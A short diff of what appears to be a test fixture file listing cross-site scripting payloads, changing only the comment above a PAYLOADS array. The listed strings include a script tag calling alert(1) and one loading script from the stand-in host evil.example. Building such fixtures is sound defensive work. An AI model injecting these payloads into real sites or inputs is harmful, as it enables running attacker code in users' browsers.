@@ -1,6 +1,6 @@
 const call = "alert(1)";
 
-/** Texts that try to be more than text: markup, attributes, addresses, styles, templates, formulas. */
+/** Injection attempts: markup, attributes, URLs, styles, templates, formulas. */
 export const PAYLOADS: readonly string[] = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
